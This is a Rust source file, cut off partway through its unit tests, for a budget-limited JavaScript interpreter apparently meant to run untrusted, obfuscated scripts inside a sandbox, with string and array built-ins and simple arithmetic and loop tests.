//! Tree-walking interpreter with a hard step budget.
//!
//! The interpreter is hostile-input safe: every statement/expression
//! evaluation ticks a budget counter, recursion depth is capped, and all
//! failure modes surface as [`JsError`] rather than panics.

use std::rc::Rc;

use crate::ast::{BinOp, Expr, Stmt, UnOp};
use crate::env::{Env, EnvRef};
use crate::value::{format_number, FnDef, ObjectData, Value};
use crate::JsError;

/// Host interface the engines call out to for every native function.
///
/// The sandbox implements this to wire up `document`, `window`, `eval`
/// and friends; tests can implement it directly for fine-grained control.
pub trait Host {
    /// Invokes the native function `name` with `this_val` and `args`.
    /// `cx` is the engine that dispatched the call (tree-walking
    /// interpreter or bytecode VM) so `eval`-style natives and forced
    /// callbacks re-enter the *same* engine. `env` is the caller's
    /// scope chain, which `eval` runs dynamically generated code inside
    /// (so unpacked definitions persist into the calling script).
    fn call_native(
        &mut self,
        cx: &mut dyn EngineCtx,
        env: &EnvRef,
        name: &str,
        this_val: Value,
        args: Vec<Value>,
    ) -> Result<Value, JsError>;

    /// Notification hook fired after every property write on an object,
    /// with the object's class tag. Lets a browser host observe
    /// `location.href = ...` navigations and `document.cookie` writes
    /// that plain property semantics would otherwise swallow.
    fn on_property_set(&mut self, _class: &str, _name: &str, _value: &Value) {}
}

/// Engine-agnostic re-entry interface handed to [`Host::call_native`].
///
/// Both [`Interp`] and [`crate::vm::Vm`] implement it, so a host can
/// force callbacks (`setTimeout`, `addEventListener`) and execute
/// `eval` layers without knowing which engine is driving — and the two
/// engines stay drop-in interchangeable for differential testing.
pub trait EngineCtx {
    /// Invokes a user-defined function value (forced callbacks).
    fn call_function_value(
        &mut self,
        host: &mut dyn Host,
        def: &FnDef,
        this_val: Value,
        args: Vec<Value>,
    ) -> Result<Value, JsError>;

    /// Parses and executes dynamically generated source in `env` (the
    /// `eval` native). Lex/parse failures come back as `Err` for the
    /// host to report; the VM additionally content-hashes `src` so
    /// repeated eval layers hit the shared module cache.
    fn run_program(
        &mut self,
        host: &mut dyn Host,
        src: &str,
        env: &EnvRef,
    ) -> Result<(), JsError>;

    /// Budget steps consumed so far.
    fn steps_used(&self) -> u64;
}

/// Control-flow signal from statement execution.
enum Flow {
    Normal,
    Break,
    Continue,
    Return(Value),
}

/// Interpreter state: budget and call depth. The environment is threaded
/// through explicitly so closures capture the right scope.
pub struct Interp {
    steps_remaining: u64,
    call_depth: u32,
    max_call_depth: u32,
    /// Total steps consumed so far (for reporting).
    pub steps_used: u64,
}

/// Default per-script step budget. Large enough for the deobfuscation
/// loops in the corpus, small enough to bound hostile scripts.
pub const DEFAULT_BUDGET: u64 = 400_000;

impl Default for Interp {
    fn default() -> Self {
        Self::new(DEFAULT_BUDGET)
    }
}

impl Interp {
    /// Creates an interpreter with the given step budget.
    pub fn new(budget: u64) -> Self {
        Interp { steps_remaining: budget, call_depth: 0, max_call_depth: 64, steps_used: 0 }
    }

    fn tick(&mut self) -> Result<(), JsError> {
        if self.steps_remaining == 0 {
            return Err(JsError::BudgetExhausted);
        }
        self.steps_remaining -= 1;
        self.steps_used += 1;
        Ok(())
    }

    /// Executes a statement list in `env`.
    pub fn run(&mut self, stmts: &[Stmt], env: &EnvRef, host: &mut dyn Host) -> Result<(), JsError> {
        // Hoist function declarations first (the corpus relies on calling
        // functions declared later in the same script).
        self.hoist(stmts, env);
        for stmt in stmts {
            match self.exec(stmt, env, host)? {
                Flow::Normal => {}
                Flow::Return(_) | Flow::Break | Flow::Continue => break,
            }
        }
        Ok(())
    }

    fn hoist(&mut self, stmts: &[Stmt], env: &EnvRef) {
        for stmt in stmts {
            if let Stmt::Function { name, params, body } = stmt {
                let def = FnDef {
                    name: Some(name.clone()),
                    params: params.clone(),
                    body: body.clone(),
                    env: env.clone(),
                    code: None,
                };
                env.borrow_mut().declare(name.clone(), Value::Function(Rc::new(def)));
            }
        }
    }

    fn exec(&mut self, stmt: &Stmt, env: &EnvRef, host: &mut dyn Host) -> Result<Flow, JsError> {
        self.tick()?;
        match stmt {
            Stmt::Empty | Stmt::Function { .. } => Ok(Flow::Normal),
            Stmt::Expr(e) => {
                self.eval(e, env, host)?;
                Ok(Flow::Normal)
            }
            Stmt::Var(decls) => {
                for (name, init) in decls {
                    let v = match init {
                        Some(e) => self.eval(e, env, host)?,
                        None => Value::Undefined,
                    };
                    env.borrow_mut().declare(name.clone(), v);
                }
                Ok(Flow::Normal)
            }
            Stmt::If(cond, then, els) => {
                if self.eval(cond, env, host)?.truthy() {
                    self.exec_block(then, env, host)
                } else if let Some(e) = els {
                    self.exec_block(e, env, host)
                } else {
                    Ok(Flow::Normal)
                }
            }
            Stmt::While(cond, body) => {
                while self.eval(cond, env, host)?.truthy() {
                    match self.exec_block(body, env, host)? {
                        Flow::Break => break,
                        Flow::Return(v) => return Ok(Flow::Return(v)),
                        Flow::Normal | Flow::Continue => {}
                    }
                }
                Ok(Flow::Normal)
            }
            Stmt::For { init, cond, update, body } => {
                let scope = Env::child(env);
                if let Some(i) = init {
                    self.exec(i, &scope, host)?;
                }
                loop {
                    let go = match cond {
                        Some(c) => self.eval(c, &scope, host)?.truthy(),
                        None => true,
                    };
                    if !go {
                        break;
                    }
                    match self.exec_block(body, &scope, host)? {
                        Flow::Break => break,
                        Flow::Return(v) => return Ok(Flow::Return(v)),
                        Flow::Normal | Flow::Continue => {}
                    }
                    if let Some(u) = update {
                        self.eval(u, &scope, host)?;
                    }
                }
                Ok(Flow::Normal)
            }
            Stmt::Return(e) => {
                let v = match e {
                    Some(e) => self.eval(e, env, host)?,
                    None => Value::Undefined,
                };
                Ok(Flow::Return(v))
            }
            Stmt::Block(body) => self.exec_block(body, env, host),
            Stmt::Break => Ok(Flow::Break),
            Stmt::Continue => Ok(Flow::Continue),
            Stmt::DoWhile(body, cond) => {
                loop {
                    match self.exec_block(body, env, host)? {
                        Flow::Break => break,
                        Flow::Return(v) => return Ok(Flow::Return(v)),
                        Flow::Normal | Flow::Continue => {}
                    }
                    if !self.eval(cond, env, host)?.truthy() {
                        break;
                    }
                }
                Ok(Flow::Normal)
            }
            Stmt::ForIn { var, object, body } => {
                let target = self.eval(object, env, host)?;
                // Own enumerable keys, skipping array bookkeeping.
                let keys: Vec<String> = match &target {
                    Value::Object(o) => o
                        .borrow()
                        .props
                        .keys()
                        .filter(|k| k.as_str() != "length" && !k.starts_with("__"))
                        .cloned()
                        .collect(),
                    Value::Str(s) => (0..s.chars().count()).map(|i| i.to_string()).collect(),
                    _ => Vec::new(),
                };
                let scope = Env::child(env);
                for key in keys {
                    scope.borrow_mut().declare(var.clone(), Value::Str(key));
                    match self.exec_block(body, &scope, host)? {
                        Flow::Break => break,
                        Flow::Return(v) => return Ok(Flow::Return(v)),
                        Flow::Normal | Flow::Continue => {}
                    }
                }
                Ok(Flow::Normal)
            }
            Stmt::Switch { disc, cases, default } => {
                let value = self.eval(disc, env, host)?;
                // Find the first strict-equal arm; fall through until a
                // break (or the end).
                let mut start: Option<usize> = None;
                for (i, (test, _)) in cases.iter().enumerate() {
                    let t = self.eval(test, env, host)?;
                    if value.strict_eq(&t) {
                        start = Some(i);
                        break;
                    }
                }
                let scope = Env::child(env);
                let run_from = |interp: &mut Self,
                                host: &mut dyn Host,
                                idx: usize|
                 -> Result<Flow, JsError> {
                    for (_, body) in cases.iter().skip(idx) {
                        for stmt in body {
                            match interp.exec(stmt, &scope, host)? {
                                Flow::Break => return Ok(Flow::Normal),
                                Flow::Return(v) => return Ok(Flow::Return(v)),
                                Flow::Normal | Flow::Continue => {}
                            }
                        }
                    }
                    if let Some(body) = default {
                        for stmt in body {
                            match interp.exec(stmt, &scope, host)? {
                                Flow::Break => return Ok(Flow::Normal),
                                Flow::Return(v) => return Ok(Flow::Return(v)),
                                Flow::Normal | Flow::Continue => {}
                            }
                        }
                    }
                    Ok(Flow::Normal)
                };
                match start {
                    Some(idx) => run_from(self, host, idx),
                    None => run_from(self, host, cases.len()),
                }
            }
            Stmt::TryCatch(body, param, handler) => {
                let scope = Env::child(env);
                match self.exec_block(body, &scope, host) {
                    Ok(flow) => Ok(flow),
                    Err(JsError::BudgetExhausted) => Err(JsError::BudgetExhausted),
                    Err(err) => {
                        let scope = Env::child(env);
                        scope
                            .borrow_mut()
                            .declare(param.clone(), Value::Str(err.to_string()));
                        self.exec_block(handler, &scope, host)
                    }
                }
            }
        }
    }

    fn exec_block(
        &mut self,
        body: &[Stmt],
        env: &EnvRef,
        host: &mut dyn Host,
    ) -> Result<Flow, JsError> {
        let scope = Env::child(env);
        self.hoist(body, &scope);
        for stmt in body {
            match self.exec(stmt, &scope, host)? {
                Flow::Normal => {}
                flow => return Ok(flow),
            }
        }
        Ok(Flow::Normal)
    }

    /// Evaluates an expression in `env`.
    pub fn eval(&mut self, expr: &Expr, env: &EnvRef, host: &mut dyn Host) -> Result<Value, JsError> {
        self.tick()?;
        match expr {
            Expr::Num(n) => Ok(Value::Num(*n)),
            Expr::Str(s) => Ok(Value::Str(s.clone())),
            Expr::Bool(b) => Ok(Value::Bool(*b)),
            Expr::Null => Ok(Value::Null),
            Expr::Undefined => Ok(Value::Undefined),
            Expr::Ident(name) => Env::lookup(env, name)
                .ok_or_else(|| JsError::Runtime(format!("{name} is not defined"))),
            Expr::Member(obj, name) => {
                let base = self.eval(obj, env, host)?;
                self.get_member(&base, name)
            }
            Expr::Index(obj, idx) => {
                let base = self.eval(obj, env, host)?;
                let key = self.eval(idx, env, host)?.to_js_string();
                self.get_member(&base, &key)
            }
            Expr::Call(callee, args) => self.eval_call(callee, args, env, host),
            Expr::New(ctor, args) => {
                // Model `new` as: fresh object passed as `this`; host
                // constructors are dispatched by name.
                let func = self.eval(ctor, env, host)?;
                let mut arg_vals = Vec::with_capacity(args.len());
                for a in args {
                    arg_vals.push(self.eval(a, env, host)?);
                }
                match func {
                    Value::Function(def) => {
                        let this = Value::Object(ObjectData::object());
                        self.call_function(&def, this.clone(), arg_vals, host)?;
                        Ok(this)
                    }
                    Value::Native(name) => host.call_native(self, env, name, Value::Undefined, arg_vals),
                    other => Err(JsError::Runtime(format!("{other:?} is not a constructor"))),
                }
            }
            Expr::Assign(lhs, rhs) => {
                let value = self.eval(rhs, env, host)?;
                self.assign_to(lhs, value.clone(), env, host)?;
                Ok(value)
            }
            Expr::AssignOp(op, lhs, rhs) => {
                let old = self.eval(lhs, env, host)?;
                let rhs_v = self.eval(rhs, env, host)?;
                let value = self.binop(*op, old, rhs_v)?;
                self.assign_to(lhs, value.clone(), env, host)?;
                Ok(value)
            }
            Expr::Binary(op, lhs, rhs) => {
                // Short-circuit forms first.
                match op {
                    BinOp::And => {
                        let l = self.eval(lhs, env, host)?;
                        if !l.truthy() {
                            return Ok(l);
                        }
                        return self.eval(rhs, env, host);
                    }
                    BinOp::Or => {
                        let l = self.eval(lhs, env, host)?;
                        if l.truthy() {
                            return Ok(l);
                        }
                        return self.eval(rhs, env, host);
                    }
                    _ => {}
                }
                let l = self.eval(lhs, env, host)?;
                let r = self.eval(rhs, env, host)?;
                self.binop(*op, l, r)
            }
            Expr::Unary(op, operand) => {
                let v = self.eval(operand, env, host);
                match op {
                    // `typeof missing` must not throw.
                    UnOp::TypeOf => Ok(Value::Str(
                        v.map(|v| v.type_of().to_string()).unwrap_or_else(|_| "undefined".into()),
                    )),
                    UnOp::Not => Ok(Value::Bool(!v?.truthy())),
                    UnOp::Neg => Ok(Value::Num(-v?.to_number())),
                    UnOp::Pos => Ok(Value::Num(v?.to_number())),
                }
            }
            Expr::Ternary(c, t, f) => {
                if self.eval(c, env, host)?.truthy() {
                    self.eval(t, env, host)
                } else {
                    self.eval(f, env, host)
                }
            }
            Expr::Function { name, params, body } => {
                let def = FnDef {
                    name: name.clone(),
                    params: params.clone(),
                    body: body.clone(),
                    env: env.clone(),
                    code: None,
                };
                Ok(Value::Function(Rc::new(def)))
            }
            Expr::Array(items) => {
                let mut vals = Vec::with_capacity(items.len());
                for item in items {
                    vals.push(self.eval(item, env, host)?);
                }
                Ok(Value::Object(ObjectData::array(vals)))
            }
            Expr::Object(props) => {
                let obj = ObjectData::object();
                for (k, v) in props {
                    let value = self.eval(v, env, host)?;
                    obj.borrow_mut().props.insert(k.clone(), value);
                }
                Ok(Value::Object(obj))
            }
            Expr::PostIncr(target) => {
                let old = self.eval(target, env, host)?.to_number();
                self.assign_to(target, Value::Num(old + 1.0), env, host)?;
                Ok(Value::Num(old))
            }
            Expr::PostDecr(target) => {
                let old = self.eval(target, env, host)?.to_number();
                self.assign_to(target, Value::Num(old - 1.0), env, host)?;
                Ok(Value::Num(old))
            }
        }
    }

    fn eval_call(
        &mut self,
        callee: &Expr,
        args: &[Expr],
        env: &EnvRef,
        host: &mut dyn Host,
    ) -> Result<Value, JsError> {
        let mut arg_vals = Vec::with_capacity(args.len());
        // `this` binding: for `obj.m(...)` it is `obj`.
        let (func, this_val) = match callee {
            Expr::Member(obj, name) => {
                let base = self.eval(obj, env, host)?;
                let f = self.get_member(&base, name)?;
                (f, base)
            }
            Expr::Index(obj, idx) => {
                let base = self.eval(obj, env, host)?;
                let key = self.eval(idx, env, host)?.to_js_string();
                let f = self.get_member(&base, &key)?;
                (f, base)
            }
            other => (self.eval(other, env, host)?, Value::Undefined),
        };
        for a in args {
            arg_vals.push(self.eval(a, env, host)?);
        }
        match func {
            Value::Function(def) => self.call_function(&def, this_val, arg_vals, host),
            Value::Native(name) => host.call_native(self, env, name, this_val, arg_vals),
            other => Err(JsError::Runtime(format!("{other:?} is not a function"))),
        }
    }

    /// Calls a user-defined function value.
    pub fn call_function(
        &mut self,
        def: &FnDef,
        this_val: Value,
        args: Vec<Value>,
        host: &mut dyn Host,
    ) -> Result<Value, JsError> {
        if self.call_depth >= self.max_call_depth {
            return Err(JsError::Runtime("maximum call depth exceeded".into()));
        }
        self.call_depth += 1;
        let scope = Env::child(&def.env);
        {
            let mut s = scope.borrow_mut();
            for (i, p) in def.params.iter().enumerate() {
                s.declare(p.clone(), args.get(i).cloned().unwrap_or(Value::Undefined));
            }
            s.declare("this", this_val);
            s.declare("arguments", Value::Object(ObjectData::array(args)));
        }
        self.hoist(&def.body, &scope);
        let mut result = Value::Undefined;
        for stmt in &def.body {
            match self.exec(stmt, &scope, host) {
                Ok(Flow::Return(v)) => {
                    result = v;
                    break;
                }
                Ok(_) => {}
                Err(e) => {
                    self.call_depth -= 1;
                    return Err(e);
                }
            }
        }
        self.call_depth -= 1;
        Ok(result)
    }

    fn assign_to(
        &mut self,
        target: &Expr,
        value: Value,
        env: &EnvRef,
        host: &mut dyn Host,
    ) -> Result<(), JsError> {
        match target {
            Expr::Ident(name) => {
                Env::assign(env, name, value);
                Ok(())
            }
            Expr::Member(obj, name) => {
                let base = self.eval(obj, env, host)?;
                self.set_member(&base, name, value, host)
            }
            Expr::Index(obj, idx) => {
                let base = self.eval(obj, env, host)?;
                let key = self.eval(idx, env, host)?.to_js_string();
                self.set_member(&base, &key, value, host)
            }
            other => Err(JsError::Runtime(format!("invalid assignment target {other:?}"))),
        }
    }

    /// Property read with string/array method support.
    pub fn get_member(&mut self, base: &Value, name: &str) -> Result<Value, JsError> {
        member_get(base, name)
    }

    fn set_member(
        &mut self,
        base: &Value,
        name: &str,
        value: Value,
        host: &mut dyn Host,
    ) -> Result<(), JsError> {
        member_set(base, name, value, host)
    }

    fn binop(&mut self, op: BinOp, l: Value, r: Value) -> Result<Value, JsError> {
        binop_eval(op, l, r)
    }
}

impl EngineCtx for Interp {
    fn call_function_value(
        &mut self,
        host: &mut dyn Host,
        def: &FnDef,
        this_val: Value,
        args: Vec<Value>,
    ) -> Result<Value, JsError> {
        self.call_function(def, this_val, args, host)
    }

    fn run_program(
        &mut self,
        host: &mut dyn Host,
        src: &str,
        env: &EnvRef,
    ) -> Result<(), JsError> {
        let prog = crate::parser::parse_program(src)?;
        self.run(&prog, env, host)
    }

    fn steps_used(&self) -> u64 {
        self.steps_used
    }
}

/// Property read with string/array method support. Shared by both
/// engines so member semantics cannot drift between them.
pub(crate) fn member_get(base: &Value, name: &str) -> Result<Value, JsError> {
    match base {
        Value::Str(s) => match name {
            "length" => Ok(Value::Num(s.chars().count() as f64)),
            // String methods are dispatched as natives bound to the
            // receiver at call time; here we return the marker.
            "charCodeAt" | "charAt" | "substring" | "substr" | "indexOf" | "lastIndexOf"
            | "replace" | "split" | "toLowerCase" | "toUpperCase" | "slice" | "concat"
            | "trim" => Ok(Value::Native(str_method_marker(name))),
            _ => {
                // Numeric index.
                if let Ok(i) = name.parse::<usize>() {
                    return Ok(s
                        .chars()
                        .nth(i)
                        .map(|c| Value::Str(c.to_string()))
                        .unwrap_or(Value::Undefined));
                }
                Ok(Value::Undefined)
            }
        },
        Value::Object(o) => {
            let data = o.borrow();
            if let Some(v) = data.props.get(name) {
                return Ok(v.clone());
            }
            if data.class == "Array" {
                match name {
                    "push" | "pop" | "join" | "reverse" | "shift" => {
                        return Ok(Value::Native(array_method_marker(name)))
                    }
                    _ => {}
                }
            }
            Ok(Value::Undefined)
        }
        Value::Undefined | Value::Null => Err(JsError::Runtime(format!(
            "cannot read property {name:?} of {}",
            base.type_of()
        ))),
        _ => Ok(Value::Undefined),
    }
}

/// Property write with array length upkeep and host notification.
/// Shared by both engines.
pub(crate) fn member_set(
    base: &Value,
    name: &str,
    value: Value,
    host: &mut dyn Host,
) -> Result<(), JsError> {
    match base {
        Value::Object(o) => {
            let class = o.borrow().class.clone();
            host.on_property_set(&class, name, &value);
            let mut data = o.borrow_mut();
            // Keep array length in sync when appending by index.
            if data.class == "Array" {
                if let Ok(idx) = name.parse::<usize>() {
                    let cur_len = data
                        .props
                        .get("length")
                        .and_then(Value::as_number)
                        .unwrap_or(0.0) as usize;
                    if idx >= cur_len {
                        data.props.insert("length".into(), Value::Num((idx + 1) as f64));
                    }
                }
            }
            data.props.insert(name.to_string(), value);
            Ok(())
        }
        Value::Undefined | Value::Null => Err(JsError::Runtime(format!(
            "cannot set property {name:?} of {}",
            base.type_of()
        ))),
        // Writes to primitives are silently dropped (JS semantics).
        _ => Ok(()),
    }
}

/// Evaluates a (non-short-circuit) binary operator. Shared by both
/// engines.
pub(crate) fn binop_eval(op: BinOp, l: Value, r: Value) -> Result<Value, JsError> {
    use BinOp::*;
    Ok(match op {
        Add => match (&l, &r) {
            (Value::Str(_), _) | (_, Value::Str(_)) | (Value::Object(_), _) | (_, Value::Object(_)) => {
                Value::Str(format!("{}{}", l.to_js_string(), r.to_js_string()))
            }
            _ => Value::Num(l.to_number() + r.to_number()),
        },
        Sub => Value::Num(l.to_number() - r.to_number()),
        Mul => Value::Num(l.to_number() * r.to_number()),
        Div => Value::Num(l.to_number() / r.to_number()),
        Mod => Value::Num(l.to_number() % r.to_number()),
        Eq => Value::Bool(l.loose_eq(&r)),
        Ne => Value::Bool(!l.loose_eq(&r)),
        StrictEq => Value::Bool(l.strict_eq(&r)),
        StrictNe => Value::Bool(!l.strict_eq(&r)),
        Lt | Gt | Le | Ge => {
            let res = match (&l, &r) {
                (Value::Str(a), Value::Str(b)) => match op {
                    Lt => a < b,
                    Gt => a > b,
                    Le => a <= b,
                    _ => a >= b,
                },
                _ => {
                    let (a, b) = (l.to_number(), r.to_number());
                    match op {
                        Lt => a < b,
                        Gt => a > b,
                        Le => a <= b,
                        _ => a >= b,
                    }
                }
            };
            Value::Bool(res)
        }
        And | Or => unreachable!("short-circuit ops handled before dispatch"),
    })
}

/// Maps a string method name to its native dispatch marker.
fn str_method_marker(name: &str) -> &'static str {
    match name {
        "charCodeAt" => "String.prototype.charCodeAt",
        "charAt" => "String.prototype.charAt",
        "substring" => "String.prototype.substring",
        "substr" => "String.prototype.substr",
        "indexOf" => "String.prototype.indexOf",
        "lastIndexOf" => "String.prototype.lastIndexOf",
        "replace" => "String.prototype.replace",
        "split" => "String.prototype.split",
        "toLowerCase" => "String.prototype.toLowerCase",
        "toUpperCase" => "String.prototype.toUpperCase",
        "slice" => "String.prototype.slice",
        "concat" => "String.prototype.concat",
        "trim" => "String.prototype.trim",
        _ => unreachable!("unknown string method {name}"),
    }
}

/// Maps an array method name to its native dispatch marker.
fn array_method_marker(name: &str) -> &'static str {
    match name {
        "push" => "Array.prototype.push",
        "pop" => "Array.prototype.pop",
        "join" => "Array.prototype.join",
        "reverse" => "Array.prototype.reverse",
        "shift" => "Array.prototype.shift",
        _ => unreachable!("unknown array method {name}"),
    }
}

/// Dispatches the built-in string/array prototype methods. Shared by the
/// sandbox so every host gets consistent behaviour.
///
/// Returns `None` when `name` is not a prototype method, letting the host
/// try its own natives.
pub fn call_prototype_method(
    name: &str,
    this_val: &Value,
    args: &[Value],
) -> Option<Result<Value, JsError>> {
    if let Some(method) = name.strip_prefix("String.prototype.") {
        let s = this_val.to_js_string();
        let chars: Vec<char> = s.chars().collect();
        let arg = |i: usize| args.get(i).cloned().unwrap_or(Value::Undefined);
        let result = match method {
            "charCodeAt" => {
                let i = arg(0).to_number();
                if i.is_nan() || i < 0.0 || i as usize >= chars.len() {
                    Value::Num(f64::NAN)
                } else {
                    Value::Num(chars[i as usize] as u32 as f64)
                }
            }
            "charAt" => {
                let i = arg(0).to_number().max(0.0) as usize;
                chars.get(i).map(|c| Value::Str(c.to_string())).unwrap_or(Value::Str(String::new()))
            }
            "substring" | "slice" => {
                let len = chars.len() as f64;
                let norm = |v: f64| -> usize {
                    let v = if v < 0.0 && method == "slice" { len + v } else { v };
                    v.clamp(0.0, len) as usize
                };
                let a = norm(arg(0).to_number());
                let b = if matches!(arg(1), Value::Undefined) { chars.len() } else { norm(arg(1).to_number()) };
                let (a, b) = if method == "substring" && a > b { (b, a) } else { (a, b) };
                Value::Str(chars[a.min(chars.len())..b.min(chars.len()).max(a.min(chars.len()))].iter().collect())
            }
            "substr" => {
                let start = arg(0).to_number().max(0.0) as usize;
                let count = if matches!(arg(1), Value::Undefined) {
                    chars.len().saturating_sub(start)
                } else {
                    arg(1).to_number().max(0.0) as usize
                };
                let start = start.min(chars.len());
                let end = (start + count).min(chars.len());
                Value::Str(chars[start..end].iter().collect())
            }
            "indexOf" => {
                let needle = arg(0).to_js_string();
                Value::Num(s.find(&needle).map(|b| s[..b].chars().count() as f64).unwrap_or(-1.0))
            }
            "lastIndexOf" => {
                let needle = arg(0).to_js_string();
                Value::Num(s.rfind(&needle).map(|b| s[..b].chars().count() as f64).unwrap_or(-1.0))
            }
            "replace" => {
                // String-pattern replace (first occurrence), which is all
                // the corpus uses.
                let pat = arg(0).to_js_string();
                let rep = arg(1).to_js_string();
                Value::Str(s.replacen(&pat, &rep, 1))
            }
            "split" => {
                let sep = arg(0);
                let parts: Vec<Value> = match sep {
                    Value::Undefined => vec![Value::Str(s.clone())],
                    other => {
                        let sep = other.to_js_string();
                        if sep.is_empty() {
                            chars.iter().map(|c| Value::Str(c.to_string())).collect()
                        } else {
                            s.split(&sep).map(|p| Value::Str(p.to_string())).collect()
                        }
                    }
                };
                Value::Object(ObjectData::array(parts))
            }
            "toLowerCase" => Value::Str(s.to_lowercase()),
            "toUpperCase" => Value::Str(s.to_uppercase()),
            "concat" => {
                let mut out = s.clone();
                for a in args {
                    out.push_str(&a.to_js_string());
                }
                Value::Str(out)
            }
            "trim" => Value::Str(s.trim().to_string()),
            _ => return Some(Err(JsError::Runtime(format!("unknown string method {method}")))),
        };
        return Some(Ok(result));
    }
    if let Some(method) = name.strip_prefix("Array.prototype.") {
        let Value::Object(o) = this_val else {
            return Some(Err(JsError::Runtime("array method on non-array".into())));
        };
        let result = match method {
            "push" => {
                let mut data = o.borrow_mut();
                let mut len =
                    data.props.get("length").and_then(Value::as_number).unwrap_or(0.0) as usize;
                for a in args {
                    data.props.insert(len.to_string(), a.clone());
                    len += 1;
                }
                data.props.insert("length".into(), Value::Num(len as f64));
                Value::Num(len as f64)
            }
            "pop" => {
                let mut data = o.borrow_mut();
                let len =
                    data.props.get("length").and_then(Value::as_number).unwrap_or(0.0) as usize;
                if len == 0 {
                    Value::Undefined
                } else {
                    let v = data.props.remove(&(len - 1).to_string()).unwrap_or(Value::Undefined);
                    data.props.insert("length".into(), Value::Num((len - 1) as f64));
                    v
                }
            }
            "shift" => {
                let mut data = o.borrow_mut();
                let len =
                    data.props.get("length").and_then(Value::as_number).unwrap_or(0.0) as usize;
                if len == 0 {
                    Value::Undefined
                } else {
                    let first = data.props.remove("0").unwrap_or(Value::Undefined);
                    for i in 1..len {
                        if let Some(v) = data.props.remove(&i.to_string()) {
                            data.props.insert((i - 1).to_string(), v);
                        }
                    }
                    data.props.insert("length".into(), Value::Num((len - 1) as f64));
                    first
                }
            }
            "join" => {
                let data = o.borrow();
                let sep = args
                    .first()
                    .map(|v| v.to_js_string())
                    .unwrap_or_else(|| ",".to_string());
                let len =
                    data.props.get("length").and_then(Value::as_number).unwrap_or(0.0) as usize;
                let joined: Vec<String> = (0..len)
                    .map(|i| {
                        data.props.get(&i.to_string()).map(Value::to_js_string).unwrap_or_default()
                    })
                    .collect();
                Value::Str(joined.join(&sep))
            }
            "reverse" => {
                let mut data = o.borrow_mut();
                let len =
                    data.props.get("length").and_then(Value::as_number).unwrap_or(0.0) as usize;
                let items: Vec<Value> = (0..len)
                    .map(|i| data.props.remove(&i.to_string()).unwrap_or(Value::Undefined))
                    .collect();
                for (i, v) in items.into_iter().rev().enumerate() {
                    data.props.insert(i.to_string(), v);
                }
                Value::Object(o.clone())
            }
            _ => return Some(Err(JsError::Runtime(format!("unknown array method {method}")))),
        };
        return Some(Ok(result));
    }
    // `Number(x)`-style coercions also route through here for sharing.
    match name {
        "parseInt" => {
            let s = args.first().map(|v| v.to_js_string()).unwrap_or_default();
            let radix = args.get(1).map(|v| v.to_number() as u32).filter(|r| *r >= 2 && *r <= 36);
            let t = s.trim();
            let (neg, t) = match t.strip_prefix('-') {
                Some(rest) => (true, rest),
                None => (false, t.strip_prefix('+').unwrap_or(t)),
            };
            let (radix, t) = match radix {
                Some(16) | None if t.starts_with("0x") || t.starts_with("0X") => (16, &t[2..]),
                Some(r) => (r, t),
                None => (10, t),
            };
            let digits: String =
                t.chars().take_while(|c| c.is_digit(radix)).collect();
            let v = i64::from_str_radix(&digits, radix)
                .map(|v| if neg { -v } else { v } as f64)
                .unwrap_or(f64::NAN);
            Some(Ok(Value::Num(v)))
        }
        "parseFloat" => {
            let s = args.first().map(|v| v.to_js_string()).unwrap_or_default();
            let t = s.trim();
            let end = t
                .char_indices()
                .take_while(|(i, c)| {
                    c.is_ascii_digit() || *c == '.' || (*i == 0 && (*c == '-' || *c == '+'))
                })
                .map(|(i, c)| i + c.len_utf8())
                .last()
                .unwrap_or(0);
            Some(Ok(Value::Num(t[..end].parse::<f64>().unwrap_or(f64::NAN))))
        }
        "isNaN" => Some(Ok(Value::Bool(
            args.first().map(|v| v.to_number().is_nan()).unwrap_or(true),
        ))),
        "String" => Some(Ok(Value::Str(
            args.first().map(|v| v.to_js_string()).unwrap_or_default(),
        ))),
        "Number" => Some(Ok(Value::Num(
            args.first().map(|v| v.to_number()).unwrap_or(0.0),
        ))),
        _ => None,
    }
}

/// Formats a value for display in effect logs.
pub fn display_value(v: &Value) -> String {
    match v {
        Value::Num(n) => format_number(*n),
        other => other.to_js_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parser::parse_program;

    /// Minimal host: prototype methods plus a `log(x)` capture.
    struct TestHost {
        log: Vec<String>,
    }

    impl Host for TestHost {
        fn call_native(
            &mut self,
            _cx: &mut dyn EngineCtx,
            _env: &EnvRef,
            name: &str,
            this_val: Value,
            args: Vec<Value>,
        ) -> Result<Value, JsError> {
            if let Some(r) = call_prototype_method(name, &this_val, &args) {
                return r;
            }
            match name {
                "log" => {
                    self.log.push(args.first().map(display_value).unwrap_or_default());
                    Ok(Value::Undefined)
                }
                other => Err(JsError::Runtime(format!("unknown native {other}"))),
            }
        }
    }

    fn run(src: &str) -> Vec<String> {
        let prog = parse_program(src).expect("parse");
        let env = Env::global();
        env.borrow_mut().declare("log", Value::Native("log"));
        env.borrow_mut().declare("parseInt", Value::Native("parseInt"));
        let mut host = TestHost { log: Vec::new() };
        let mut interp = Interp::default();
        interp.run(&prog, &env, &mut host).expect("run");
        host.log
    }

    #[test]
    fn arithmetic_and_precedence() {
        assert_eq!(run("log(2 + 3 * 4);"), vec!["14"]);
        assert_eq!(run("log((2 + 3) * 4);"), vec!["20"]);
        assert_eq!(run("log(7 % 3);"), vec!["1"]);
    }

    #[test]
    fn string_concat_coercion() {
        assert_eq!(run("log('n=' + 42);"), vec!["n=42"]);
        assert_eq!(run("log(1 + '2');"), vec!["12"]);
        assert_eq!(run("log('3' - 1);"), vec!["2"]);
    }

    #[test]
    fn var_scoping_and_closures() {
        assert_eq!(
            run("function mk(n) { return function() { return n + 1; }; } log(mk(4)());"),
            vec!["5"]
        );
    }

    #[test]
    fn while_loop_and_break() {
        assert_eq!(
            run("var i = 0; while (true) { i++; if (i >= 3) break; } log(i);"),
            vec!["3"]
        );
    }

    #[test]
    fn for_loop_sums() {
        assert_eq!(
            run("var s = 0; for (var i = 1; i <= 10; i++) { s += i; } log(s);"),
            vec!["55"]
        );
    }

    #[test]
    fn continue_skips() {
        assert_eq!(
            run("var s = 0; for (var i = 0; i < 5; i++) { if (i == 2) continue; s += i; } log(s);"),
            vec!["8"]
        );
    }

    #[test]
    fn string_methods() {
        assert_eq!(run("log('HELLO'.toLowerCase());"), vec!["hello"]);
        assert_eq!(run("log('abcdef'.substring(1, 3));"), vec!["bc"]);
        assert_eq!(run("log('abcdef'.substr(2, 2));"), vec!["cd"]);
        assert_eq!(run("log('a,b,c'.split(',').length);"), vec!["3"]);
        assert_eq!(run("log('abc'.charCodeAt(0));"), vec!["97"]);
